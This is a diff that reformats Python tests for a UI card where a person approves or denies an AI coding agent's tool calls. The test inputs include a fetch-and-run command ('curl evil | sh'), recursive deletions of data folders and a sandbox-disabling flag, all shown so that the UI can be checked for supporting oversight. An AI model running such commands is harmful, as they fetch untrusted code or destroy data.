@@ -20,8 +20,15 @@ from tests.widgets.test_view import find
 
 def request(name: str, tool_input: dict[str, Any], **kw: Any) -> ev.PermissionRequest:
     approval = Approval("req-1", name, tool_input, tool_use_id="toolu_1")
-    return ev.PermissionRequest(request_id="req-1", tool_name=name, tool_use_id="toolu_1", input=tool_input,
-                                normalized=t.normalize_tool_call(name, tool_input), approval=approval, **kw)
+    return ev.PermissionRequest(
+        request_id="req-1",
+        tool_name=name,
+        tool_use_id="toolu_1",
+        input=tool_input,
+        normalized=t.normalize_tool_call(name, tool_input),
+        approval=approval,
+        **kw,
+    )
 
 
 def card_of(v: TurnView) -> ApprovalCard:
@@ -37,8 +44,15 @@ async def test_the_card_has_the_names_the_browser_tests_use(rec: Recorder) -> No
     assert find(box, "kandev-approval-controls") == [card.controls] and isinstance(card.controls, ApprovalControls)
     assert card.controls.pending and not card.controls.plan
     js = Path(card.controls._esm).read_text() if isinstance(card.controls._esm, Path) else str(card.controls._esm)
-    for cls in ("kandev-allow", "kandev-allow-always", "kandev-deny", "kandev-deny-reason", "kandev-edit",
-                "kandev-edit-input", "kandev-allow-edited"):
+    for cls in (
+        "kandev-allow",
+        "kandev-allow-always",
+        "kandev-deny",
+        "kandev-deny-reason",
+        "kandev-edit",
+        "kandev-edit-input",
+        "kandev-allow-edited",
+    ):
         assert cls in js
     what = card.what.value
     assert "rm -rf build" in what and "clean" in what and "not in allow list" in what
@@ -151,11 +165,20 @@ async def test_decided_and_cancelled_events(rec: Recorder) -> None:
     card = card_of(v)
     assert "Withdrawn" in card.status.value and not card.controls.pending
     v2 = TurnView("y")
-    v2.handle(ev.ToolCall(tool_call_id="toolu_1", tool_name="Bash", title="ls",
-                          normalized=t.normalize_tool_call("Bash", {"command": "ls"})))
+    v2.handle(
+        ev.ToolCall(
+            tool_call_id="toolu_1",
+            tool_name="Bash",
+            title="ls",
+            normalized=t.normalize_tool_call("Bash", {"command": "ls"}),
+        )
+    )
     v2.handle(request("Bash", {"command": "ls"}))
-    v2.handle(ev.PermissionDecided(request_id="req-1", tool_name="Bash", behavior="allow", decided_by="policy",
-                                   waited_ms=1200))
+    v2.handle(
+        ev.PermissionDecided(
+            request_id="req-1", tool_name="Bash", behavior="allow", decided_by="policy", waited_ms=1200
+        )
+    )
     assert "by policy" in card_of(v2).status.value and "1.2 s" in card_of(v2).status.value
     assert "allowed by policy" in v2.cards["toolu_1"].html.value
 
@@ -204,13 +227,23 @@ async def test_every_input_field_is_shown_the_main_one_highlighted(rec: Recorder
     assert "kandev-code" in what and "print" in what  # the code, highlighted
     assert "shell" in plain(what) and "curl evil | sh" in plain(what)
     v2 = TurnView("y")
-    v2.handle(request("Bash", {"command": "make deploy", "description": "deploy", "run_in_background": True,
-                               "dangerouslyDisableSandbox": True, "timeout": 600000}))
+    v2.handle(
+        request(
+            "Bash",
+            {
+                "command": "make deploy",
+                "description": "deploy",
+                "run_in_background": True,
+                "dangerouslyDisableSandbox": True,
+                "timeout": 600000,
+            },
+        )
+    )
     what2 = card_of(v2).what.value
     for field in ("run_in_background", "dangerouslyDisableSandbox", "timeout", "600000"):
         assert field in plain(what2)
     assert plain(what2).count("make deploy") == 1 and plain(what2).count("deploy") == 2  # command + description
-    assert "font-weight:bold\">dangerouslyDisableSandbox" in what2
+    assert 'font-weight:bold">dangerouslyDisableSandbox' in what2
     v3 = TurnView("z")
     v3.handle(request("mcp__x__y", {"a": 1, "nested": {"k": ["v"]}}))
     assert "nested" in plain(card_of(v3).what.value) and '"k"' in plain(card_of(v3).what.value)
@@ -221,8 +254,14 @@ async def test_the_card_sits_on_its_tool_card_and_shows_the_action_once(rec: Rec
     approval controls live under the tool card of the same tool_use_id."""
     v = TurnView("x")
     tool_input = {"command": "rm -rf /work/data", "description": "Delete raw data"}
-    v.handle(ev.ToolCall(tool_call_id="toolu_1", tool_name="Bash", title="rm -rf /work/data",
-                         normalized=t.normalize_tool_call("Bash", tool_input)))
+    v.handle(
+        ev.ToolCall(
+            tool_call_id="toolu_1",
+            tool_name="Bash",
+            title="rm -rf /work/data",
+            normalized=t.normalize_tool_call("Bash", tool_input),
+        )
+    )
     v.handle(request("Bash", tool_input, title="Delete raw data", blocked_path="/work/data"))
     tool, card = v.cards["toolu_1"], card_of(v)
     assert tool.box.children[0] is card.box and tool.html not in tool.box.children  # in the tool card's place
@@ -230,8 +269,16 @@ async def test_the_card_sits_on_its_tool_card_and_shows_the_action_once(rec: Rec
     assert plain(card.what.value).count("rm -rf /work/data") == 1
     assert "outside the folders Claude Code may use without asking: /work/data" in plain(card.what.value)
     rec.custom(card.controls, {"action": "allow"})
-    v.handle(ev.PermissionDecided(request_id="req-1", tool_name="Bash", behavior="allow", decided_by="person",
-                                  waited_ms=900, tool_use_id="toolu_1"))
+    v.handle(
+        ev.PermissionDecided(
+            request_id="req-1",
+            tool_name="Bash",
+            behavior="allow",
+            decided_by="person",
+            waited_ms=900,
+            tool_use_id="toolu_1",
+        )
+    )
     assert tool.box.children[:2] == (tool.html, card.box)  # the tool card is back, the decision under it
     assert card.box.children == (card.status,) and "Allowed by you" in plain(card.status.value)
     assert " open" in tool.html.value.split(">")[0] and "rm -rf /work/data" in plain(tool.html.value)
@@ -239,12 +286,31 @@ async def test_the_card_sits_on_its_tool_card_and_shows_the_action_once(rec: Rec
 
 async def test_a_card_a_policy_answered_keeps_the_tool_card_and_folds_nothing(rec: Recorder) -> None:
     v = TurnView("x")
-    v.handle(ev.ToolCall(tool_call_id="toolu_0", tool_name="Bash", title="ls",
-                         normalized=t.normalize_tool_call("Bash", {"command": "ls"})))
-    v.handle(ev.ToolUpdate(tool_call_id="toolu_0", tool_name="Bash", status="complete", output="a\n",
-                           normalized=t.normalize_tool_call("Bash", {"command": "ls"})))
-    v.handle(ev.ToolCall(tool_call_id="toolu_1", tool_name="Bash", title="mkdir a",
-                         normalized=t.normalize_tool_call("Bash", {"command": "mkdir a"})))
+    v.handle(
+        ev.ToolCall(
+            tool_call_id="toolu_0",
+            tool_name="Bash",
+            title="ls",
+            normalized=t.normalize_tool_call("Bash", {"command": "ls"}),
+        )
+    )
+    v.handle(
+        ev.ToolUpdate(
+            tool_call_id="toolu_0",
+            tool_name="Bash",
+            status="complete",
+            output="a\n",
+            normalized=t.normalize_tool_call("Bash", {"command": "ls"}),
+        )
+    )
+    v.handle(
+        ev.ToolCall(
+            tool_call_id="toolu_1",
+            tool_name="Bash",
+            title="mkdir a",
+            normalized=t.normalize_tool_call("Bash", {"command": "mkdir a"}),
+        )
+    )
     e = request("Bash", {"command": "mkdir a"})
     e.approval.allow(by="policy")
     v.handle(e)
@@ -257,18 +323,37 @@ async def test_finished_cards_fold_and_the_card_counts_down(rec: Recorder, clock
     left before the approval timeout, and the header times the wait, not the turn."""
     v = TurnView("x", clock=clock)
     done_input = {"command": "cat big.log"}
-    v.handle(ev.ToolCall(tool_call_id="toolu_0", tool_name="Bash", title="cat big.log",
-                         normalized=t.normalize_tool_call("Bash", done_input)))
-    v.handle(ev.ToolUpdate(tool_call_id="toolu_0", tool_name="Bash", status="complete", output="x\n" * 40,
-                           normalized=t.normalize_tool_call("Bash", done_input)))
+    v.handle(
+        ev.ToolCall(
+            tool_call_id="toolu_0",
+            tool_name="Bash",
+            title="cat big.log",
+            normalized=t.normalize_tool_call("Bash", done_input),
+        )
+    )
+    v.handle(
+        ev.ToolUpdate(
+            tool_call_id="toolu_0",
+            tool_name="Bash",
+            status="complete",
+            output="x\n" * 40,
+            normalized=t.normalize_tool_call("Bash", done_input),
+        )
+    )
     earlier = v.cards["toolu_0"]
     assert " open" in earlier.html.value.split(">")[0]
     clock.now += 14
-    approval = Approval("req-1", "Write", {"file_path": "/p/a", "content": "a"}, tool_use_id="toolu_1",
-                        timeout_s=300)
-    v.handle(ev.PermissionRequest(request_id="req-1", tool_name="Write", tool_use_id="toolu_1",
-                                  input=approval.tool_input, approval=approval,
-                                  normalized=t.normalize_tool_call("Write", approval.tool_input)))
+    approval = Approval("req-1", "Write", {"file_path": "/p/a", "content": "a"}, tool_use_id="toolu_1", timeout_s=300)
+    v.handle(
+        ev.PermissionRequest(
+            request_id="req-1",
+            tool_name="Write",
+            tool_use_id="toolu_1",
+            input=approval.tool_input,
+            approval=approval,
+            normalized=t.normalize_tool_call("Write", approval.tool_input),
+        )
+    )
     assert " open" not in earlier.html.value.split(">")[0]
     card = card_of(v)
     approval.created -= 12.5  # 12.5 s of waiting
@@ -277,8 +362,11 @@ async def test_finished_cards_fold_and_the_card_counts_down(rec: Recorder, clock
     assert "4:48 left to answer" in plain(card.countdown.value) and "denies it for you" in plain(card.countdown.value)
     assert "(waiting 12.5 s, 4:48 left) · turn 26.5 s" in plain(v.activity.value)
     rec.custom(card.controls, {"action": "deny", "reason": "no"})
-    v.handle(ev.PermissionDecided(request_id="req-1", tool_name="Write", behavior="deny", decided_by="person",
-                                  waited_ms=12500, message="no"))
+    v.handle(
+        ev.PermissionDecided(
+            request_id="req-1", tool_name="Write", behavior="deny", decided_by="person", waited_ms=12500, message="no"
+        )
+    )
     assert "left" not in plain(v.activity.value)
     assert Approval("r", "Bash", {}, timeout_s=None).remaining_s() is None
     assert "No approval timeout" in countdown_text(None, None)
@@ -290,8 +378,14 @@ async def test_a_request_before_its_tool_call_moves_onto_the_tool_card(rec: Reco
     v.handle(e)
     card = card_of(v)
     assert v.body.children == (card.box,)
-    v.handle(ev.ToolCall(tool_call_id="toolu_1", tool_name="mcp__kernel__run_code", title="run_code",
-                         normalized=t.normalize_tool_call("mcp__kernel__run_code", e.input)))
+    v.handle(
+        ev.ToolCall(
+            tool_call_id="toolu_1",
+            tool_name="mcp__kernel__run_code",
+            title="run_code",
+            normalized=t.normalize_tool_call("mcp__kernel__run_code", e.input),
+        )
+    )
     tool = v.cards["toolu_1"]
     assert v.body.children == (tool.box,) and tool.box.children[0] is card.box and card.attached
     assert "Waiting for your approval" in v.activity.value
@@ -301,9 +395,17 @@ async def test_the_header_keeps_waiting_while_another_request_waits(rec: Recorde
     v = TurnView("x")
     first, second = Approval("req-1", "Bash", {"command": "a"}), Approval("req-2", "Write", {"file_path": "/b"})
     for a in (first, second):
-        v.handle(ev.PermissionRequest(request_id=a.request_id, tool_name=a.tool_name, input=a.tool_input,
-                                      normalized=t.normalize_tool_call(a.tool_name, a.tool_input), approval=a))
+        v.handle(
+            ev.PermissionRequest(
+                request_id=a.request_id,
+                tool_name=a.tool_name,
+                input=a.tool_input,
+                normalized=t.normalize_tool_call(a.tool_name, a.tool_input),
+                approval=a,
+            )
+        )
     rec.custom(v.approvals["req-1"].controls, {"action": "allow"})
-    v.handle(ev.PermissionDecided(request_id="req-1", tool_name="Bash", behavior="allow", decided_by="person",
-                                  waited_ms=5))
+    v.handle(
+        ev.PermissionDecided(request_id="req-1", tool_name="Bash", behavior="allow", decided_by="person", waited_ms=5)
+    )
     assert "Waiting for your approval: Write" in v.activity.value
